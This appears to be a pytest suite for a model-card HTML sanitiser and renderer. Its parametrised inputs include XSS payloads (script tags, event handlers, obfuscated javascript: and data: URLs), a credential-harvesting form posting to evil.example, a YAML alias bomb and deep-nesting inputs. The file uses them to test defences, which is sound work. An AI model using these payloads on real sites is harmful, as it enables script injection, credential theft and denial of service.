"""The model page's view of a card: rendered, sanitised, bounded; hostile cards lose everything dangerous."""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest

from huggingface_sb3.card_metadata import MetadataLimits
from huggingface_sb3.hub_server._card_html import (
    ALLOWED_TAGS,
    LINK_REL,
    MAX_MARKDOWN_BYTES,
    MAX_TAGS,
    TRUNCATED_NOTE,
    CardView,
    card_view,
)

LIMITS = MetadataLimits()

SB3_CARD = """---
library_name: stable-baselines3
tags:
- CartPole-v1
- deep-reinforcement-learning
- reinforcement-learning
- stable-baselines3
- CartPole-v1
model-index:
- name: PPO
  results:
  - task:
      type: reinforcement-learning
      name: reinforcement-learning
    dataset:
      name: CartPole-v1
      type: CartPole-v1
    metrics:
    - type: mean_reward
      value: 500.00 +/- 0.00
      name: mean_reward
      verified: false
---

# **PPO** Agent playing **CartPole-v1**
This is a trained model of a **PPO** agent playing **CartPole-v1**
using the [stable-baselines3 library](https://github.com/DLR-RM/stable-baselines3).

| Hyperparameter | Value |
|:---------------|------:|
| n_steps        | 32    |

## Usage (with Stable-baselines3)

```python
from stable_baselines3 import PPO
from huggingface_sb3 import load_from_hub
```
"""


class _Elements(HTMLParser):
    """Every element of an HTML fragment, with its attributes, and its text."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}

    def attributes(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.elements if name == tag]


def _view(body: str) -> tuple[CardView, _Elements]:
    view = card_view(body, LIMITS)
    return view, _Elements(view.html)


def test_sb3_card_renders_body_and_tags_without_yaml() -> None:
    view, parsed = _view(SB3_CARD)
    assert {"h1", "h2", "table", "th", "td", "pre", "code", "a", "strong"} <= parsed.tags()
    assert parsed.attributes("a") == [{"href": "https://github.com/DLR-RM/stable-baselines3", "rel": LINK_REL}]
    assert parsed.attributes("code") == [{"class": "language-python"}]
    assert [attrs["align"] for attrs in parsed.attributes("th")] == ["left", "right"]
    assert "from stable_baselines3 import PPO" in html.unescape(view.html)
    assert view.tags == ("CartPole-v1", "deep-reinforcement-learning", "reinforcement-learning", "stable-baselines3")
    assert view.metadata["library_name"] == "stable-baselines3"
    metric = view.metadata["model-index"][0]["results"][0]["metrics"][0]
    assert metric["value"] == "500.00 +/- 0.00"
    assert view.metadata_error is None
    for yaml_text in ("library_name", "model-index", "mean_reward", "---"):
        assert yaml_text not in view.html


def test_card_without_metadata() -> None:
    view, parsed = _view("# Title\n\nSome text.\n")
    assert view.metadata == {} and view.metadata_error is None and view.tags == ()
    assert parsed.tags() == {"h1", "p"}


def test_tags_are_strings_deduplicated_and_bounded() -> None:
    tags = ["ok", 3, {"a": 1}, "ok", "x" * 101, "y" * 100] + [f"t{i}" for i in range(100)]
    yaml_tags = "\n".join(f"- {tag!r}" if isinstance(tag, str) else f"- {tag}" for tag in tags)
    view = card_view(f"---\ntags:\n{yaml_tags}\n---\nbody\n", LIMITS)
    assert view.tags[:2] == ("ok", "y" * 100)
    assert len(view.tags) == MAX_TAGS
    assert all(isinstance(tag, str) and len(tag) <= 100 for tag in view.tags)


@pytest.mark.parametrize(
    "vector",
    [
        "<script>alert(1)</script>",
        "text <script>alert(1)</script> inline",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi>alert(1)</mi></math>",
        "<iframe src=https://evil.example>alert(1)</iframe>",
        "<noscript>alert(1)</noscript>",
        "<template><img src=x onerror=alert(1)></template>",
    ],
)
def test_script_like_content_is_gone_not_shown_as_text(vector: str) -> None:
    view, parsed = _view(f"before\n\n{vector}\n\nafter\n")
    assert parsed.tags() <= {"p"}
    assert "alert(1)" not in view.html
    assert "before" in view.html and "after" in view.html


def test_event_handlers_are_removed() -> None:
    view, parsed = _view('<img src=x onerror=alert(1)>\n\n<svg onload=alert(1)>\n\n<p onclick="alert(1)">p</p>\n')
    assert "svg" not in parsed.tags()
    assert parsed.attributes("img") == [{"src": "x"}]
    assert all(not name.startswith("on") for _, attrs in parsed.elements for name in attrs)
    assert "onerror" not in view.html and "onload" not in view.html


@pytest.mark.parametrize(
    "vector",
    [
        "[x](javascript:alert(1))",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
        '<a href=" \tjavascript:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        '<img src="javascript:alert(1)">',
        '<a href="vbscript:msgbox(1)">x</a>',
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<img src="data:text/html,alert(1)">',
    ],
)
def test_dangerous_urls_are_removed(vector: str) -> None:
    _, parsed = _view(vector + "\n")
    assert [attrs for _, attrs in parsed.elements if "href" in attrs or "src" in attrs] == []
    values = [value.lower() for _, attrs in parsed.elements for value in attrs.values() if value]
    assert not [value for value in values if "script" in value or "data:" in value]


def test_protocol_relative_and_plain_links_get_rel() -> None:
    _, parsed = _view('<a href="//evil.example/x">e</a> [h](https://ok.example) [m](mailto:a@b.example) [r](./r)\n')
    links = parsed.attributes("a")
    assert [attrs["href"] for attrs in links] == [
        "//evil.example/x",
        "https://ok.example",
        "mailto:a@b.example",
        "./r",
    ]
    assert all(attrs["rel"] == LINK_REL for attrs in links)
    assert all(set(attrs) == {"href", "rel"} for attrs in links)


@pytest.mark.parametrize(
    ("vector", "gone"),
    [
        ("<style>body{display:none}</style>", "display:none"),
        ('<div style="position:fixed;top:0">covered</div>', "position"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "evil.example"),
        ('<form action="https://evil.example/steal"><input name="password"></form>', "evil.example"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "evil.example"),
        ('<base href="https://evil.example/">', "evil.example"),
        ('<object data="https://evil.example/x.swf">fallback</object>', "evil.example"),
        ('<embed src="https://evil.example/x.swf">', "evil.example"),
        ('<div id="content" class="header" name="x">clobber</div>', 'id="'),
        ('<img id="content" name="content" src="a.png">', "content"),
        ('<a target="_blank" href="https://ok.example" rel="opener">x</a>', "target"),
    ],
)
def test_hostile_elements_and_attributes_are_removed(vector: str, gone: str) -> None:
    view, parsed = _view(f"{vector}\n\ntext\n")
    assert parsed.tags() <= ALLOWED_TAGS
    assert gone not in view.html
    for _, attrs in parsed.elements:
        assert not {"style", "id", "name", "class", "target", "action", "http-equiv"} & set(attrs)
    assert "text" in view.html


def test_code_class_only_a_language() -> None:
    _, parsed = _view('<code class="language-python evil">x</code> <code class="language-c">y</code>\n')
    assert parsed.attributes("code") == [{}, {"class": "language-c"}]


def test_allowed_raw_html_is_kept() -> None:
    card = (
        '<details><summary>More</summary>\n\n<img src="https://ok.example/a.png" alt="a" width="10" height="20">'
        "<br><kbd>Ctrl</kbd> x<sup>2</sup> H<sub>2</sub>O <del>old</del>\n\n</details>\n"
    )
    _, parsed = _view(card)
    assert {"details", "summary", "img", "br", "kbd", "sup", "sub", "del"} <= parsed.tags()
    assert parsed.attributes("img") == [{"src": "https://ok.example/a.png", "alt": "a", "width": "10", "height": "20"}]


def test_huge_card_is_truncated_with_a_note() -> None:
    paragraph = "word " * 100 + "\n\n"
    card = "---\ntags:\n- big\n---\n" + paragraph * (2 * 1024 * 1024 // len(paragraph) + 1)
    assert len(card.encode()) > 2 * 1024 * 1024
    view = card_view(card, LIMITS)
    assert view.html.rstrip().endswith(f"<p><em>{TRUNCATED_NOTE}</em></p>")
    assert view.tags == ("big",)
    assert MAX_MARKDOWN_BYTES // 2 < len(view.html) < MAX_MARKDOWN_BYTES * 1.1


def test_multibyte_text_cut_cleanly() -> None:
    view = card_view("é" * MAX_MARKDOWN_BYTES, LIMITS)
    assert TRUNCATED_NOTE in view.html
    assert "\ufffd" not in view.html


def test_short_card_has_no_note() -> None:
    assert TRUNCATED_NOTE not in card_view("# small\n", LIMITS).html


@pytest.mark.parametrize(
    "body",
    [
        ">" * 10_000 + " deep",
        "\n".join(">" * depth + " x" for depth in range(1, 2_000)),
        "[" * 10_000 + "x" + "]" * 10_000 + "(https://ok.example)",
        "![" * 10_000,
        "*a" * 10_000 + "_b" * 10_000,
        "\n".join("  " * depth + "- item" for depth in range(2_000)),
    ],
)
def test_deep_nesting_renders_without_recursion_error(body: str) -> None:
    view = card_view(body, LIMITS)
    assert isinstance(view.html, str)


def test_deeply_nested_raw_html_is_escaped_past_the_budget() -> None:
    view, parsed = _view("<div>" * 12_000 + "x\n\nafter\n")  # 60 kB: under the markdown bound
    assert "after" in view.html
    assert "div" not in parsed.tags()


def test_yaml_alias_bomb_keeps_the_body() -> None:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
        for i in range(20)
    )
    view, parsed = _view(f"---\n{bomb}tags:\n- t\n---\n# Still here\n")
    assert view.metadata == {}
    assert view.metadata_error and "alias" in view.metadata_error
    assert view.tags == ()
    assert "h1" in parsed.tags() and "Still here" in view.html
    assert "&amp;a" not in view.html and "*a" not in view.html


@pytest.mark.parametrize("yaml_block", ["tags: [unclosed\n", "- a list\n- not a mapping\n", "key: {a: 1\n"])
def test_unreadable_yaml_keeps_the_body(yaml_block: str) -> None:
    view, parsed = _view(f"---\n{yaml_block}---\n## Body\n\ntext\n")
    assert view.metadata == {} and view.metadata_error and view.tags == ()
    assert "h2" in parsed.tags() and "text" in view.html
    assert "unclosed" not in view.html and "not a mapping" not in view.html


def test_relative_links_point_at_the_repos_files_as_on_the_hub() -> None:
    from huggingface_sb3.hub_server._card_html import CardLinks, render_markdown

    links = CardLinks("you/agent", "refs/pr/1")
    html = render_markdown(
        "![plot](images/plot.png) [config](config.json#L2) [home](/) [up](../../other/x)\n\n"
        '<video src="http://localhost:8080/you/agent/resolve/main/replay.mp4"></video>\n'
        '<img src="https://elsewhere.example/you/agent/resolve/main/a.png">\n'
        "[bad](javascript:alert(1)) <a href='JAVASCRIPT:alert(2)'>bad</a>",
        links,
    )
    assert 'src="/you/agent/resolve/refs%2Fpr%2F1/images/plot.png"' in html
    assert 'href="/you/agent/blob/refs%2Fpr%2F1/config.json#L2"' in html
    assert 'href="/"' in html and 'href="../../other/x"' in html, "absolute paths and climbing paths are left alone"
    assert 'src="/you/agent/resolve/main/replay.mp4"' in html, "the repo's own files on another host come here"
    assert 'src="/you/agent/resolve/main/a.png"' in html
    assert "javascript:" not in html.lower().replace("[bad](javascript:alert(1))", "")
